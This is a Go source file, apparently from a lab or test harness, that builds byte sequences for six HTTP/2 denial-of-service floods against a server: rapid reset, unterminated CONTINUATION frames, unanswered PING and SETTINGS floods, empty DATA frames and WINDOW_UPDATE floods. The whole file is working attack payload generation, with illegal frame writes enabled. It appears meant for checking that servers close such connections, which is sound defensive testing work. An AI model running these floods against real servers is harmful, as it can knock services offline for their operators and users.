package lab

import (
	"bytes"
	"strings"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// Flood is what one connection over HTTP/2 sends again and again: it costs the server more than it costs the client, and the
// server must close the connection.
type Flood struct {
	Name  string
	piece func(s *floodState) []byte
}

// Floods are the ones there are.
func Floods() []Flood {
	return []Flood{
		{"rapid reset", resets},
		{"CONTINUATION without an end", continuations},
		{"PING, answers not read", pings},
		{"SETTINGS, answers not read", settings},
		{"empty DATA", emptyData},
		{"WINDOW_UPDATE", windows},
	}
}

// Pieces gives what to send on a new connection behind the preface and the first SETTINGS, one piece a call.
func (f Flood) Pieces(scheme, authority, path string) func() []byte {
	s := &floodState{scheme: scheme, authority: authority, path: path}
	s.enc = hpack.NewEncoder(&s.block)
	return func() []byte {
		defer func() { s.n++ }()
		return f.piece(s)
	}
}

// floodState is of one connection.
type floodState struct {
	scheme, authority, path string

	n     int // pieces before this one
	block bytes.Buffer
	enc   *hpack.Encoder
}

func (s *floodState) encode(fields ...hpack.HeaderField) []byte {
	s.block.Reset()
	for _, f := range fields {
		s.enc.WriteField(f)
	}
	return bytes.Clone(s.block.Bytes())
}

func (s *floodState) request(method string) []byte {
	return s.encode(hpack.HeaderField{Name: ":method", Value: method}, hpack.HeaderField{Name: ":scheme", Value: s.scheme},
		hpack.HeaderField{Name: ":authority", Value: s.authority}, hpack.HeaderField{Name: ":path", Value: s.path})
}

// frames gives the bytes of what write writes.
func frames(write func(f *http2.Framer)) []byte {
	var b bytes.Buffer
	f := http2.NewFramer(&b, nil)
	f.AllowIllegalWrites = true
	write(f)
	return b.Bytes()
}

const floodBatch = 100

func resets(s *floodState) []byte {
	block := s.request("GET")
	return frames(func(f *http2.Framer) {
		for i := range floodBatch {
			id := uint32(s.n*floodBatch+i)*2 + 1
			f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndStream: true, EndHeaders: true})
			f.WriteRSTStream(id, http2.ErrCodeCancel)
		}
	})
}

func continuations(s *floodState) []byte {
	return frames(func(f *http2.Framer) {
		if s.n == 0 {
			f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: s.request("GET"), EndStream: true})
		}
		f.WriteContinuation(1, false, s.encode(hpack.HeaderField{Name: "x-a", Value: strings.Repeat("a", 1000), Sensitive: true}))
	})
}

func pings(*floodState) []byte {
	return frames(func(f *http2.Framer) {
		for range floodBatch {
			f.WritePing(false, [8]byte{})
		}
	})
}

func settings(*floodState) []byte {
	return frames(func(f *http2.Framer) {
		for range floodBatch {
			f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1 << 16})
		}
	})
}

func emptyData(s *floodState) []byte {
	return frames(func(f *http2.Framer) {
		if s.n == 0 {
			f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: s.request("POST"), EndHeaders: true})
		}
		for range floodBatch {
			f.WriteData(1, false, nil)
		}
	})
}

func windows(*floodState) []byte {
	return frames(func(f *http2.Framer) {
		for range floodBatch {
			f.WriteWindowUpdate(0, 1)
		}
	})
}
